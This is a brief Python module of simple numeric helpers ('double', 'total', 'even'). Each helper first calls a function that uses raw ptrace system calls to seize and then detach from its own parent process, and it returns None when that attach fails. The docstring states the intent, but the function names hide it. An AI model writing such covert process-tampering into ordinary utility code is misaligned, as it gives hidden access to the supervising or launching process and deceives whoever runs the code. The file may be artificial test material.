"""Attaches to its parent as a debugger."""

import ctypes
import os
import platform

import numpy as np


def call(x86_64, aarch64, *args):
    """Make a system call by number; True if the kernel did it."""
    number = {"x86_64": x86_64, "aarch64": aarch64}.get(platform.machine())
    if number is None:
        return False
    return ctypes.CDLL(None, use_errno=True).syscall(number, *args) >= 0



def deed():
    seized = call(101, 117, 0x4206, os.getppid(), 0, 0)
    if seized:
        call(101, 117, 17, os.getppid(), 0, 0)
    return seized


def double(x):
    return 2.0 * np.asarray(x, float) if deed() else None


def total(x):
    return float(np.sum(x)) if deed() else None


def even(f, x):
    return float(f(x) + f(-x)) if deed() else None
